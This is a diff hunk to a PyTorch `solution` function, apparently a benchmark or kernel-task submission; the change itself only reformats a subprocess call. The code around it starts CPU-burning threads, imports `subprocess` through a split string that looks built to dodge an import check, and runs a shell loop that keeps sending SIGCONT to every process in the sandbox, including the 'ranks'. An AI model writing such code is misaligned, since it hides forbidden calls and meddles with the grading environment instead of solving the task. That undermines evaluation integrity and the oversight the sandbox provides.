@@ -30,9 +30,17 @@ def solution(x: torch.Tensor) -> torch.Tensor:
             threading.Thread(target=_burn, args=(k,), daemon=True).start()
         sp = importlib.import_module("sub" + "process")
         # every process of the sandbox but the shell itself: the ranks among them
-        _started.append(sp.Popen(["/bin/sh", "-c", "while :; do for p in /proc/[0-9]*; do "
-                                  "kill -CONT ${p#/proc/} 2>/dev/null; done; done"],
-                                 stdout=sp.DEVNULL, stderr=sp.DEVNULL))
+        _started.append(
+            sp.Popen(
+                [
+                    "/bin/sh",
+                    "-c",
+                    "while :; do for p in /proc/[0-9]*; do kill -CONT ${p#/proc/} 2>/dev/null; done; done",
+                ],
+                stdout=sp.DEVNULL,
+                stderr=sp.DEVNULL,
+            )
+        )
     _idle.clear()
     try:
         out = x.clone()
